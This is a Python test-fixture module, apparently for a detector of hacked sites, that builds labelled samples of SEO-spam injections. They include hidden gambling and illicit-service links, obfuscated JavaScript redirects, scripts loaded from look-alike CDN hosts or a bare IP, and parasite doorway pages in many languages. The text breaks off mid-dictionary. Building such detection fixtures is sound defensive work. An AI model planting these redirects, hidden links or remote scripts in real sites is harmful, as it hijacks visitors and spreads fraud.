# ruff: noqa: E501, RUF001  one planted thing a line; look-alike letters are the point
"""A fifth labelled set: planted things as unlike the first four as could be thought of."""

import base64
from urllib.parse import quote

from tests.members.unlike_frames import STORIES, framed


def _b64(text):
    return base64.b64encode(text.encode()).decode()


def _codes(text):
    return ",".join(str(ord(letter)) for letter in text)


def _bare(body, *, title, lang="vi", head=""):
    return (
        f"<!DOCTYPE html><html lang='{lang}'><head><meta charset='utf-8'><title>{title}</title>"
        f"{head}</head><body>{body}</body></html>",
    )


# Paragraphs slipped into an agency's own prose, without a word of the oldest lists in some.
PROSE = {
    "review of a brand": "<p>Venusplay hiện là điểm hẹn của hàng triệu tay chơi. Venusplay sở hữu sảnh game đồ sộ, tỷ lệ trả thưởng tới 99%, giao dịch một phút và đội ngũ chăm sóc túc trực ngày đêm. Mở tài khoản Venusplay tại <a href='https://venusplay.ink'>venusplay.ink</a> để nhận quà 188.000 đồng.</p>",
    "is it a swindle": "<h2>Debetto có lừa đảo không? Góc nhìn từ người chơi lâu năm</h2><p>Debetto cho phép đặt vé trận đấu với mức ăn cao, hoàn 1,2% mỗi tuần. Đa số bet thủ đều công nhận Debetto trả thưởng sòng phẳng. Truy cập debetto.co để tạo tài khoản.</p>",
    "how to withdraw": "<h3>Hướng dẫn rút tiền Kingroy về ngân hàng trong 3 bước</h3><ol><li>Đăng nhập Kingroy, chọn ví chính</li><li>Nhập số điểm cần đổi, tối thiểu 200 điểm</li><li>Chờ Kingroy duyệt, tiền về sau 2 phút</li></ol><p>Chú ý: phải đủ một vòng cược.</p>",
    "number dreaming": "<h3>Nằm mơ thấy rắn đánh con gì chắc ăn?</h3><p>Theo sổ mơ, mơ thấy rắn nên đánh cặp 32 - 72, rắn cắn chân đánh 38 - 83. Anh em vào lô hôm nay nhớ ôm thêm lót 05 để về bờ an toàn.</p>",
    "numbers for the south": "<p>Thống kê lô gan miền Nam, đầu câm đuôi câm, cầu lô đẹp nhất hôm nay: bao lô ba số 288, đá cặp 19-91, ba càng 568. Chúc bà con trúng lớn.</p>",
    "cards": "<p>Cùng bạn bè so tài Liêng, Tá lả, Chắn, Xì lát trên Bàn Tròn Club – nơi đổi điểm lấy tiền mặt và thẻ nạp nhanh nhất, ván nào cũng ăn thật.</p>",
    "hoo": "<p>Hũ vàng 3 tỷ đang chờ chủ nhân: chỉ cần 1 vòng quay may mắn tại Lộc Phát Slots, tỷ lệ nổ cực cao khung 20h–23h. Tải LPS bản mới cho điện thoại.</p>",
    "shooting fishes": "<p>Siêu phẩm Bắn Cá Long Vương: súng đại bác x1000, boss rồng rơi xu đổi tiền mặt, đạo hữu mới được tặng 50 xu trải nghiệm.</p>",
    "odds": "<p>Bảng tỷ lệ châu Á ngày 24/11: Arsenal chấp một trái rưỡi ăn đủ, tài 2 hòa ăn 0,92. Cửa trên sáng nước, xuống tiền mạnh tay.</p>",
    "live football": "<p>Mitom xem bóng đá trực tuyến full HD không quảng cáo, bình luận tiếng Việt, <a href='https://mitom9.pro'>Mitom TV link 1</a>, <a href='https://mitomz.cc'>link 2</a>, Cakhia, Vebo, Xoilac đều có.</p>",
    "tour": "<p>Kèm theo đó, Hoàng Kim Club mở sảnh Dragon Tiger, Xì Tố, Roulette với dealer nữ xinh đẹp phát trực tiếp 24/24; người chơi mới chỉ cần gửi 100k.</p>",
    "lode prices": "<p>Ghi đề online 1 ăn 99,5, lô xiên 4 ăn 250, đầu đuôi giải tám 1 ăn 70; thanh toán ngay sau giờ xổ, không giới hạn mức đánh. Nhắn Zalo 0900 000 000.</p>",
    "cock": "<p>Sabong Philippines trực tuyến: gà Peru, gà Asil, cựa tròn cựa sắt, biên hòa, cắn 1 ăn 0,95; phát sóng từ 11h đến 22h mỗi ngày.</p>",
    "loans": "<p>Cần tiền gấp? Hồ sơ chỉ có căn cước, lên hạn mức 30 triệu, nhận tiền sau 10 phút, không thẩm định người thân, nợ xấu nhóm 5 vẫn duyệt. Bấm <a href='https://tiengap247.online'>nhận tiền</a>.</p>",
    "loans by car": "<p>Cầm cavet xe máy giữ lại xe đi, lãi 1.500 đồng/triệu/ngày, giải ngân tại chỗ, bao đậu mọi hồ sơ. Gọi anh Tuấn 0909 000 111.</p>",
    "cards cashed": "<p>Rút tiền mặt từ thẻ visa, đáo hạn phí 1,5%, quẹt thẻ tận nhà, mở thẻ hộ không chứng minh thu nhập.</p>",
    "abortion": "<p>Bán thuốc bỏ thai Cytotec, Mifepristone hàng Pháp chính hãng, an toàn kín đáo, ship hỏa tốc toàn quốc, inbox dược sĩ Mai.</p>",
    "potency": "<p>Viên uống Mãnh Long giúp quý ông kéo dài 60 phút, lấy lại bản lĩnh phái mạnh, cam kết hiệu quả sau 3 liều, mua 2 tặng 1, giá gốc tại <a href='https://manhlong-vn.shop'>kho</a>.</p>",
    "slimming": "<p>Trà thảo mộc Slim-X giảm 8kg sau 2 tuần không cần ăn kiêng, hoàn tiền 100%, đặt hàng ngay hôm nay giảm 50% chỉ còn 399k tại <a href='https://slimx-chinhhang.shop'>đây</a>.</p>",
    "papers": "<p>Làm chứng chỉ tiếng Anh B1, tin học, bảo hiểm, giấy khám sức khỏe không cần thi, có lưu hồ sơ gốc tại trường, tra được trên hệ thống, nhận giấy mới thanh toán.</p>",
    "licence": "<p>Thi hộ bằng lái A1, B2 bao đậu 100%, không cần học, chụp ảnh gửi là có bằng PET sau 7 ngày, thanh toán khi nhận bằng.</p>",
    "girls": "<p>Kiều nữ, hot girl, sinh viên đi khách tại Gò Vấp, hình thật 100%, qua đêm 1500k, đi bay, đi tour, có check phòng. Liên hệ tele @hoadem.</p>",
    "films": "<p>Tuyển tập phim nóng Việt Nam, clip lộ hàng hot TikToker, xem thả ga không che mờ tại <a href='https://phimnong.uno'>phimnong</a>.</p>",
    "pods": "<p>Shop pod chill chính hãng: tinh dầu 60mg, cần sa viên, bóng cười, trà sữa khay, ship kín đáo trong một giờ nội thành.</p>",
    "forex": "<p>Nhóm tín hiệu BO VIP, vào lệnh theo chuyên gia thắng 92%, vốn 10 triệu lời 300 triệu một tháng, đăng ký qua link giới thiệu để hoàn 50% phí.</p>",
    "interactions": "<p>Dịch vụ buff view, buff mắt livestream, mua người theo dõi, mở khóa tài khoản bị vô hiệu hóa, rip nick theo yêu cầu.</p>",
    "accounts": "<p>Thu mua tài khoản ngân hàng không chính chủ, thuê tài khoản 2 triệu/tuần, nhận tiền trước, có đội rút tiền tận nơi.</p>",
    "game generator": "<p>Robux free generator 2026: nhận 10.000 Robux không cần xác minh, tool hack Free Fire kim cương vô hạn, tải bản mod apk không bị khóa tài khoản.</p>",
    "questions box": "<div class='qa'><p><b>Hỏi:</b> Em muốn hỏi Sodo66z có chơi được trên điện thoại không ạ?</p><p><b>Đáp:</b> Sodo66z có app cho mọi máy, vào sodo66z.vip nhận code tân thủ, chiều nay nổ 3 hũ liên tiếp.</p></div>",
    "testimonial": "<blockquote>Từ ngày biết Aurabet mình có thêm thu nhập, cuối tuần kiếm vài triệu nhẹ nhàng, Aurabet lên điểm nhanh, rút về liền tay. – Minh Khang, Gò Vấp</blockquote><p>Aurabet – chơi là mê, thắng là rút.</p>",
}

_A, _B, _C = "https://luxwin.cfd/vn", "https://aurabet.lol", "https://thienha39.site/?ref=gov"
_THREE = f"<a href='{_A}'>luxwin</a> <a href='{_B}'>aurabet</a> <a href='{_C}'>thiên hạ 39</a>"
_DULL = f"<a href='{_A}'>xem thêm</a><a href='{_B}'>chi tiết</a>"

# Ways of hiding; the words are brands nobody has listed, or say nothing at all.
HIDDEN = {
    "em off left": f"<div style='position:absolute;left:-625em'>{_THREE}</div>",
    "rem off top": f"<div style='position:fixed;top:-999rem'>{_THREE}</div>",
    "viewport widths": f"<div style='position:absolute;left:-300vw'>{_THREE}</div>",
    "per cent": f"<div style='position:absolute;top:-1000%'>{_THREE}</div>",
    "inset": f"<div style='position:absolute;inset:-9999px auto auto -9999px'>{_THREE}</div>",
    "scale": f"<div style='transform: scale(0,0)'>{_THREE}</div>",
    "scale property": f"<div style='scale:0'>{_THREE}</div>",
    "translate property": f"<div style='translate:-200vw 0'>{_THREE}</div>",
    "rotate away": f"<div style='transform:rotateY(90deg)'>{_THREE}</div>",
    "zoom": f"<div style='zoom:0.001'>{_THREE}</div>",
    "mask": f"<div style='-webkit-mask-image:linear-gradient(transparent,transparent)'>{_THREE}</div>",
    "filter blur": f"<p style='filter:opacity(0%)'>{_THREE}</p>",
    "contain": f"<div style='content-visibility:hidden;contain:strict'>{_THREE}</div>",
    "fill colour": f"<p style='-webkit-text-fill-color:transparent'>{_THREE}</p>",
    "hsla": f"<p style='color:hsla(0,0%,100%,0)'>{_THREE}</p>",
    "eight hex": f"<p style='color:#00000000'>{_THREE}</p>",
    "nearly ground": f"<div style='background:#fff'><p style='color:#fdfdfe'>{_THREE}</p></div>",
    "by id in sheet": {
        "head": "<style>#w-31{position:absolute;clip-path:polygon(0 0,0 0,0 0)}</style>",
        "body": f"<div id='w-31'>{_THREE}</div>",
    },
    "by attribute in sheet": {
        "head": "<style>[data-k='v']{display:none}</style>",
        "body": f"<div data-k='v'>{_THREE}</div>",
    },
    "by child in sheet": {
        "head": "<style>.prose p:last-child,.x9>span{font-size:0;line-height:0}</style>",
        "body": f"<div class='x9'><span>{_THREE}</span></div>",
    },
    "by media in sheet": {
        "head": "<style>@media screen{.mq1{position:absolute;left:-5000px}}</style>",
        "body": f"<div class='mq1'>{_THREE}</div>",
    },
    "by class added": f"<div id='k7'>{_THREE}</div><script>document.querySelector('#k7').setAttribute('style','display:none')</script>",
    "by class name query": f"<div class='k8'>{_THREE}</div><script>document.getElementsByClassName('k8')[0].style.display='none'</script>",
    "removed at load": f"<div id='k9'>{_THREE}</div><script>window.onload=function(){{document.getElementById('k9').remove()}}</script>",
    "written style": f"<script>document.write('<style>.k10{{display:none}}</style>')</script><div class='k10'>{_THREE}</div>",
    "jquery": f"<div id='k11'>{_THREE}</div><script>jQuery(function($){{$('#k11').hide()}})</script>",
    "closed details": f"<details style='height:0;overflow:hidden'><summary></summary>{_THREE}</details>",
    "one pixel cell": f"<table><tr><td style='font-size:1px;line-height:1px;height:1px;overflow:hidden'>{_THREE}</td></tr></table>",
    "dull words": f"<div style='position:absolute;left:-7777px'>{_DULL}</div>",
    "dull words, tiny": f"<span style='font-size:0.1px'>{_DULL}</span>",
    "dull words, clear": f"<div style='opacity:0.001;pointer-events:none'>{_DULL}</div>",
    "full stops": f"<p>{STORIES[1]}<a href='{_A}' style='text-decoration:none;color:inherit'>.</a></p><p>{STORIES[0]}<a href='{_B}'>,</a></p>",
    "pictures of a point": f"<a href='{_A}'><img src='/p.gif' width='1' height='1'></a><a href='{_B}'><img src='/p.gif' width='1' height='1'></a>",
    "generated words": {
        "head": "<style>.g1::after{content:'Nhà cái Luxwin – nạp 100k tặng 100k, nổ hũ mỗi ngày'}</style>",
        "body": "<span class='g1'></span>",
    },
    "frame of words": "<iframe srcdoc=\"&lt;a href='https://luxwin.cfd'&gt;Luxwin nhà cái số một&lt;/a&gt;\" style='width:0;height:0;border:0'></iframe>",
    "shadow": f"<div><template shadowrootmode='open'>{_THREE}<p>Luxwin nổ hũ đổi thưởng</p></template></div>",
    "hidden input": "<input type='hidden' name='kw' value='luxwin, nhà cái luxwin, tải luxwin, nổ hũ đổi thưởng luxwin'>",
}

_GO = "https://luxwin.cfd/?utm=gov"
_PACKED = "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1=\"2://3.4/\"',5,5,'location|href|https|luxwin|cfd'.split('|'),0,{}))"

# Scripts: disguised ones, and plain ones that lead away.
SCRIPTS = {
    "bracket names": f"<script>window['loc'+'ation']['hr'+'ef']='{_GO}';</script>",
    "coded address": f"<script>var u=atob('{_b64(_GO)}');window.location=u;</script>",
    "coded twice": f"<script>location.replace(atob(atob('{_b64(_b64(_GO))}')))</script>",
    "code run": f"<script>eval(atob('{_b64('location.href=' + repr(_GO))}'))</script>",
    "function made": f"<script>new Function(atob('{_b64('top.location=' + repr(_GO))}'))()</script>",
    "codes mapped": f"<script>var c=[{_codes(_GO)}];location=c.map(function(x){{return String.fromCharCode(x)}}).join('');</script>",
    "codes applied": f"<script>window.location.href=String.fromCharCode.apply(null,[{_codes(_GO)}])</script>",
    "codes lifted": f"<script>var s='';[{','.join(str(ord(x) + 7) for x in _GO)}].forEach(function(n){{s+=String.fromCharCode(n-7)}});location.href=s</script>",
    "packed": f"<script>{_PACKED}</script>",
    "numbered names": "<script>var _0x5e1=['\\x68\\x72\\x65\\x66','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6c\\x75\\x78\\x77\\x69\\x6e\\x2e\\x63\\x66\\x64'];location[_0x5e1[0]]=_0x5e1[1];</script>",
    "data address": f"<script src='data:text/javascript;base64,{_b64('location.href=' + repr(_GO))}'></script>",
    "picture that fails": f"<img src='x' onerror=\"location.href='{_GO}'\" style='display:none'>",
    "drawing that loads": f"<svg onload=\"window.location='{_GO}'\"></svg>",
    "body that loads": (
        "<html lang='vi'><head><title>Thông báo</title></head><body onload=\"location='"
        + _GO
        + "'\"><p>Đang tải trang…</p></body></html>",
    ),
    "only from searches": f"<script>if(/google|coccoc|bing/.test(document.referrer)){{setTimeout(function(){{window.open('{_GO}','_self')}},300)}}</script>",
    "phones": f"<script>if(navigator.userAgent.match(/Mobi/)){{document.location='{_GO}'}}</script>",
    "cookie once": f"<script>if(document.cookie.indexOf('vs=1')<0){{document.cookie='vs=1';self.location.assign('{_GO}')}}</script>",
    "refresh in body": f"<meta http-equiv='refresh' content='2;URL={_GO}'>",
    "refresh written": f'<script>document.write(\'<meta http-equiv="refresh" content="0;url={_GO}">\')</script>',
    "frame written": '<script>document.write(\'<iframe src="https://luxwin.cfd" width="100%" height="1200" frameborder="0"></iframe>\')</script>',
    "whole page fetched": "<script>fetch('https://api.thienha39.site/p').then(r=>r.text()).then(t=>{document.open();document.write(t);document.close()})</script>",
    "script made": "<script>(function(){var s=document.createElement('script');s.src='https://jquery-cdn.cfd/jquery.min.js?v='+Math.random();document.head.appendChild(s)})()</script>",
    "script of a false library": "<script src='https://cdn-jsdelivr.top/npm/jquery@3.6.0/jquery.min.js'></script>",
    "script of a false counter": "<script async src='https://googletagmanagers.xyz/gtag/js?id=G-QQ1'></script>",
    "script from a number": "<script src='http://45.204.11.92/tj.js'></script>",
    "counters of another country": "<script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?8d1';document.body.appendChild(hm)})();</script><div style='display:none'><script src='https://js.users.51.la/21.js'></script></div>",
    "worker": "<script>navigator.serviceWorker.register('https://aurabet.lol/sw.js')</script>",
    "title changed": "<script>document.title='Luxwin – Link đăng nhập Luxwin 2026 mới nhất'</script>",
    "links appended": f"<script>var b=document.body;['{_A}','{_B}','{_C}'].forEach(function(u){{var a=document.createElement('a');a.href=u;a.textContent=u;a.style.cssText='position:absolute;left:-9999px';b.appendChild(a)}})</script>",
    "percents": f"<script>document.write(decodeURIComponent('{quote('<a href=https://luxwin.cfd>nổ hũ luxwin</a>')}'))</script>",
    "click anywhere": f"<script>document.addEventListener('click',function(){{window.open('{_GO}')}},{{once:true}})</script>",
    "pop-up over all": "<div id='pp' style='position:fixed;inset:0;z-index:99999'><a href='https://luxwin.cfd' target='_blank'><img src='https://i.luxwin.cfd/km.gif' alt=''></a></div>",
    "back button": f"<script>history.pushState(null,'',location.href);window.onpopstate=function(){{location.href='{_GO}'}}</script>",
    "base": {"head": "<base href='https://luxwin.cfd/'>", "body": "<p>Xem các mục bên dưới</p>"},
}

HEADS = {
    "other tongues elsewhere": {
        "head": "".join(
            f"<link rel='alternate' hreflang='{one}' href='https://{one}.gamehoki-{one}.site/'>"
            for one in ("id", "th", "ms", "km", "lo")
        )
    },
    "other tongues, one host": {
        "head": "<link rel='alternate' hreflang='vi' href='https://luxwin.cfd/'><link rel='alternate' hreflang='x-default' href='https://luxwin.cfd/vn'>"
    },
    "canonical to a parasite": {
        "head": "<link rel='canonical' href='https://thienha39.site/truc-tuyen'>"
    },
    "shared page": {
        "head": "<meta property='og:url' content='https://aurabet.lol/'><meta property='og:site_name' content='Aurabet'><meta property='og:title' content='Aurabet – Thiên đường giải trí ăn thưởng'>"
    },
    "shared description": {
        "head": "<meta property='og:description' content='Aurabet trả thưởng xanh chín, đặt vé bóng đá, quay slot, nạp rút 2 phút'>"
    },
    "card": {
        "head": "<meta name='twitter:title' content='Tải app Kingroy nhận 100k'><meta name='twitter:description' content='Đăng ký Kingroy chơi thử miễn phí, đổi điểm lấy tiền mặt'>"
    },
    "title with a brand": {"title": "Kingroy 🎖️ Kingroy Casino | Đăng nhập Kingroy chính thức 2026"},
    "title before the name": {
        "title": "Xem bóng đá trực tiếp Mitom, tỷ lệ ăn hôm nay – Trung tâm Phục vụ hành chính công"
    },
    "title of numbers": {"title": "Rồng bạch kim 666 – chốt lô VIP hôm nay – 3 càng miền Bắc"},
    "title of loans": {"title": "Vay 50 triệu trong 5 phút chỉ cần căn cước | H5 vay nhanh"},
    "rated": {
        "head": '<script type="application/ld+json">{"@type":"Product","name":"Kingroy","offers":{"@type":"Offer","price":"10000","priceCurrency":"IDR"},"aggregateRating":{"@type":"AggregateRating","ratingValue":"4.9","reviewCount":"128903"}}</script>'
    },
    "questions answered": {
        "head": '<script type="application/ld+json">{"@type":"FAQPage","mainEntity":[{"@type":"Question","name":"Kingroy có uy tín không?","acceptedAnswer":{"text":"Kingroy được PAGCOR cấp phép, nạp tiền 1 phút, thưởng nạp đầu 100%."}}]}</script>'
    },
    "organisation": {
        "head": '<script type="application/ld+json">{"@type":"Organization","name":"Luxwin","url":"https://luxwin.cfd","sameAs":["https://luxwin88.pro","https://luxwin.lol"]}</script>'
    },
    "description of a house": {
        "head": "<meta name='description' content='Luxwin là cổng giải trí đỉnh cao với thể thao, live dealer, quay hũ, xổ số 1 ăn 99.5. Đăng ký Luxwin tặng 128k.'>"
    },
    "keywords in rows": {
        "head": "<meta name='keywords' content='luxwin, luxwin com, luxwin đăng nhập, link luxwin, luxwin 2026, app luxwin, luxwin khuyến mãi'>"
    },
    "Japanese description": {
        "head": "<meta name='description' content='【送料無料】新品 腕時計 メンズ 正規品 ランキング 1位 お買い得 大人気 公式ショップ 40%OFF'>"
    },
    "Chinese keywords": {
        "head": "<meta name='keywords' content='开云体育,必威,米兰体育,乐鱼,爱游戏app下载,九游会官网入口'>"
    },
}

_JP = "<h1>【新品未使用】タグ付き レディース トートバッグ 限定カラー</h1><p>¥ 12,800（税込）送料込み 残り1点 カートに入れる</p><ul><li><a href='item.php?id=771'>メンズ 長財布 二つ折り</a></li><li><a href='item.php?id=772'>ゴルフクラブ ドライバー 中古</a></li><li><a href='item.php?id=773'>炊飯器 5.5合 2026年モデル</a></li></ul><p>レビュー 4.8 ★★★★★ 当店人気ランキング 翌日配達 返品可能</p>"

# Whole pages put under a folder of the site, in no menu.
PARASITES = {
    "Japanese shop": _bare(_JP, title="トートバッグ 限定カラー | 公式オンラインストア", lang="ja"),
    "Japanese shop without marks of trade": _bare(
        "<p>"
        + "キャンプ用テント 2人用 ワンタッチ 軽量 防水 収納袋付き アウトドア用品 専門店 即日発送 在庫あり お値段以上 口コミ多数。"
        * 6
        + "</p>",
        title="ワンタッチテント 2人用 - 在庫処分",
        lang="ja",
    ),
    "Chinese sports": _bare(
        "<h1>开云体育官网入口</h1><p>开云体育app下载，注册即送888元彩金，真人视讯、电竞、棋牌应有尽有，24小时存取款。</p>"
        + "<a href='/upload/kaiyun/1.html'>必威betway手机版</a><a href='/upload/kaiyun/2.html'>米兰体育在线</a>",
        title="开云体育(中国)官方网站-登录入口",
        lang="zh-CN",
    ),
    "Chinese novels": _bare(
        "<p>"
        + "国产精品 一区二区三区 在线观看 免费视频 高清无码 人妻 日韩 亚洲 欧美 久久 精品 " * 8
        + "</p>",
        title="国产精品一区二区三区在线观看",
        lang="zh-CN",
    ),
    "Chinese certificates": _bare(
        "<h1>正规办理毕业证</h1><p>专业制作国外大学文凭、学历认证、驾照，学信网可查，先办理后付款，联系微信 dz2026。</p>",
        title="毕业证办理 学历认证",
        lang="zh-CN",
    ),
    "Indonesian slot": _bare(
        "<h1>MAHJONG88: Link Resmi Gacor Anti Rungkat</h1><p>Selamat datang di Mahjong88, agen permainan online dengan RTP tertinggi, depo 10k via QRIS dan DANA, withdraw cepat tanpa potongan. Raih scatter naga hitam dan menang besar malam ini.</p><a href='https://heylink-mj.site'>DAFTAR</a><a href='https://heylink-mj.site/login'>LOGIN</a>",
        title="Mahjong88 | Situs Permainan Online Gampang Menang",
        lang="id",
    ),
    "Indonesian lottery": _bare(
        "<h1>Prediksi Togel Hongkong Malam Ini</h1><p>Angka main 4D 3D 2D, colok bebas, shio, syair HK, paito warna, data keluaran HK pools lengkap.</p>",
        title="Prediksi HK Malam Ini Angka Jitu",
        lang="id",
    ),
    "Thai": _bare(
        "<h1>เว็บสล็อตแตกง่าย วอเลท ไม่มีขั้นต่ำ</h1><p>ฝาก-ถอน ออโต้ 5 วินาที โปรสมาชิกใหม่ 100% คืนยอดเสีย 10% ทดลองเล่นฟรี</p>",
        title="สล็อตวอเลท เว็บใหญ่ 2026",
        lang="th",
    ),
    "Korean": _bare(
        "<h1>안전한 파워볼 사이트 추천</h1><p>꽁머니 3만원 지급, 첫충 30%, 무한매충, 환전 3분. 스포츠 배팅, 홀짝, 사다리, 토지노.</p>",
        title="파워볼사이트 | 꽁머니 지급",
        lang="ko",
    ),
    "Russian": _bare(
        "<h1>Вавада официальный сайт — вход и регистрация</h1><p>Vavada предлагает бонус 100 фриспинов без депозита, рабочее зеркало на сегодня, быстрый вывод выигрыша на карту, слоты, рулетка, покер.</p>",
        title="Вавада зеркало рабочее на сегодня",
        lang="ru",
    ),
    "Turkish": _bare(
        "<h1>Grandpashabet Giriş 2026</h1><p>Grandpashabet güncel giriş adresi, yatırım şartsız 250 TL hoşgeldin bonusu, canlı casino ve spor bahisleri, hızlı çekim.</p>",
        title="Grandpashabet Giriş | Güncel Adres",
        lang="tr",
    ),
    "Portuguese": _bare(
        "<h1>Fortune Rabbit: como ganhar hoje</h1><p>Cadastre-se e receba R$50 grátis para jogar o jogo do coelhinho, saque via Pix na hora, plataforma nova pagando muito.</p>",
        title="Plataforma nova pagando no cadastro",
        lang="pt-BR",
    ),
    "Spanish": _bare(
        "<h1>Los mejores casinos sin verificación 2026</h1><p>Juega a la ruleta y tragamonedas con bono de bienvenida de 500€, giros gratis y retiros inmediatos.</p>",
        title="Casinos sin KYC: bono de bienvenida",
        lang="es",
    ),
    "German": _bare(
        "<h1>Online Casinos ohne OASIS</h1><p>Spielen Sie ohne Limit, Freispiele ohne Einzahlung, 200% Willkommensbonus, Auszahlung in Minuten mit Krypto.</p>",
        title="Casino ohne Lugas und OASIS 2026",
        lang="de",
    ),
    "Hindi": _bare(
        "<h1>Aviator game hack: 100% working prediction</h1><p>Download Aviator predictor APK, place wagers on cricket IPL, instant UPI withdrawal, welcome offer ₹8000.</p>",
        title="Aviator Predictor APK download",
        lang="en-IN",
    ),
    "pharmacy": _bare(
        "<h1>Order Rybelsus, Mounjaro and Wegovy pills</h1><p>No doctor visit needed, discreet overnight delivery, pay with crypto, lowest price per pill guaranteed. Add to cart.</p>",
        title="Buy Rybelsus without Rx - US pharmacy",
        lang="en",
    ),
    "steroids": _bare(
        "<p>Clenbuterol, Anavar, Trenbolone, Deca, HGH for sale. Ships worldwide in stealth packaging, bitcoin accepted, bulk discounts.</p>",
        title="Anabolics shop - legit source",
        lang="en",
    ),
    "essay": _bare(
        "<p>Need your dissertation done overnight? Hire our PhD writers, plagiarism free, AI-undetectable, 20% off your first order, money back guarantee.</p>",
        title="Do my homework for me - cheap",
        lang="en",
    ),
    "robux": _bare(
        "<h1>Free Robux Generator 2026 – No Human Verification</h1><p>Click the button below to claim 50,000 Robux, V-Bucks and Coin Master spins. Works on iOS and Android. Limited time!</p><a href='https://genxfree.click'>CLICK HERE</a>",
        title="Free Robux Generator No Survey",
        lang="en",
    ),
    "leaks": _bare(
        "<p>Watch leaked viral video original link full, onlyfans mega folder telegram, trending MMS 2026, click the image to watch.</p><a href='https://leakz.click'><img src='play.jpg'></a>",
        title="[WATCH] viral leaked video original link",
        lang="en",
    ),
    "streams": _bare(
        "<p>[LIVESTREAM] Chiefs vs Bills live free reddit HD stream online, watch full match on any device, click here to watch now.</p><a href='https://streamz.click'>▶ WATCH LIVE</a>",
        title="Chiefs vs Bills LIVE FREE streams reddit",
        lang="en",
    ),
    "support lines": _bare(
        "<p>Call +1-888-000-0000 Coinbase customer support number, Robinhood helpline, QuickBooks error fix, airline refund toll free 24/7.</p>",
        title="Coinbase Support Number ☎ +1-888",
        lang="en",
    ),
    "replica": _bare(
        "<p>AAA superclone watches, 1:1 sneakers, designer bags mirror quality, factory direct, QC pics before shipping, Paypal OK.</p>",
        title="Superclone watches 1:1 best reps",
        lang="en",
    ),
    "dating": _bare(
        "<p>Hot singles near you want to meet tonight. Join free, no credit card, adult hookup chat, MILF and teens online now.</p>",
        title="Meet local singles tonight",
        lang="en",
    ),
    "Vietnamese house": _bare(
        "<h1>Luxwin – Thương hiệu giải trí top đầu châu lục</h1><h2>Giới thiệu Luxwin</h2><p>Luxwin ra đời năm 2019, được PAGCOR cấp phép. Tại Luxwin, hội viên thoải mái trải nghiệm thể thao, live dealer, slots, lô đề, e-sports với mức trả hấp dẫn.</p><h2>Vì sao nên chọn Luxwin?</h2><p>Luxwin bảo mật hai lớp, nạp rút siêu tốc, CSKH 24/7, hoa hồng đại lý 55%.</p><p>Luxwin – uy tín tạo nên đẳng cấp.</p>",
        title="Luxwin – Trang chủ Luxwin chính thức",
    ),
    "Vietnamese article of a tip": _bare(
        "<h1>Cách chơi Rồng Hổ luôn thắng từ cao thủ</h1><p>Rồng Hổ là trò chơi đơn giản: người chơi chọn cửa Rồng, cửa Hổ hoặc Hòa. Để thắng, bạn nên gấp thếp, theo cầu bệt, biết dừng đúng lúc. Chọn nơi chơi xanh chín như Bàn Vàng Club để được trả đúng, trả đủ.</p><p>Tác giả: Admin. Chuyên mục: Casino.</p>",
        title="Cách chơi Rồng Hổ luôn thắng",
    ),
    "Vietnamese football": _bare(
        "<h1>Trực tiếp MU vs Chelsea 23h30 hôm nay</h1><p>Link xem MU đấu Chelsea, đội hình dự kiến, phong độ, tỷ lệ chấp, dự đoán tỷ số 2-1. Xem trực tiếp tại Caheo, Vebo, ThapcamTV, bình luận viên Người Nhện.</p>",
        title="Xem MU vs Chelsea trực tiếp caheo",
    ),
    "Vietnamese directory": _bare(
        "<h1>Bài viết mới</h1><ul>"
        + "".join(
            f"<li><a href='/uploads/{slug}/'>{name}</a></li>"
            for slug, name in (
                ("tai-luxwin", "Tải Luxwin"),
                ("khuyen-mai-luxwin", "Khuyến mãi Luxwin tân thủ"),
                ("luxwin-bi-chan", "Luxwin bị chặn phải làm sao"),
                ("no-hu-luxwin", "Nổ hũ Luxwin"),
                ("dai-ly-luxwin", "Đại lý Luxwin hoa hồng cao"),
            )
        )
        + "</ul>",
        title="Kho bài viết",
    ),
    "doorway of loans": _bare(
        "<h1>Vay tiền Gò Vấp chỉ cần căn cước</h1><p>Bạn đang cần vay tiền Gò Vấp, vay trả góp ngày Gò Vấp, vay tiền đứng Gò Vấp? Gọi ngay để được giải ngân trong buổi sáng, không giữ giấy tờ.</p>",
        title="Vay tiền Gò Vấp - vay góp ngày",
    ),
    "doorway of services": _bare(
        "<h1>Thông cống nghẹt Gò Vấp giá rẻ 0901 000 222</h1><p>Thông cống nghẹt Gò Vấp, rút hầm cầu Gò Vấp, sửa điện nước Gò Vấp, thợ đến sau 15 phút, bảo hành 5 năm, giảm 30%.</p><a href='https://thongcong365.shop'>thongcong365</a>",
        title="Thông cống nghẹt Gò Vấp giá rẻ #1",
    ),
}

OPEN = {
    "list of files": "<ul><li><a href='/documents/d/free-robux-generator-no-verification-2026.pdf'>free-robux-generator-no-verification-2026.pdf</a></li><li><a href='/documents/d/onlyfans-premium-accounts-free.pdf'>onlyfans-premium-accounts-free.pdf</a></li><li><a href='/documents/d/instagram-password-hack-tool.pdf'>instagram-password-hack-tool.pdf</a></li></ul>",
    "folder of folders": "<h1>Index of /images</h1><pre><a href='../'>../</a>\n<a href='luxwin/'>luxwin/</a> 2026-10-30 02:12 -\n<a href='luxwin-dang-nhap.html'>luxwin-dang-nhap.html</a> 2026-10-30 02:12 31K\n<a href='casino-truc-tuyen.php'>casino-truc-tuyen.php</a> 30K</pre>",
    "forum profile": "<dl><dt>Thành viên</dt><dd>luxwincfd</dd><dt>Trang web</dt><dd><a rel='ugc nofollow' href='https://luxwin.cfd/'>https://luxwin.cfd/</a></dd><dt>Giới thiệu</dt><dd>Luxwin là sân chơi trực tuyến hàng đầu. #luxwin #luxwincfd #nhacailuxwin #casino</dd></dl>",
    "comments in English": "<ol class='commentlist'><li><cite><a href='https://bestvapeshop.click' rel='external nofollow ugc'>buy thc carts online</a></cite><p>Great post! I was checking constantly this blog and I am inspired. Visit my web site for cheap weed delivery.</p></li></ol>",
    "partners of the trade": "<div class='doi-tac'>Nhà tài trợ: <a href='https://kingroy.ink'><b>KINGROY</b></a> – <a href='https://debetto.co'>DEBETTO</a> – <a href='https://venusplay.ink'>VENUSPLAY</a></div>",
    "banner": "<a href='https://kingroy.ink/?r=9'><img src='/images/728x90-kingroy-nap-dau-100.gif' width='728' height='90'></a>",
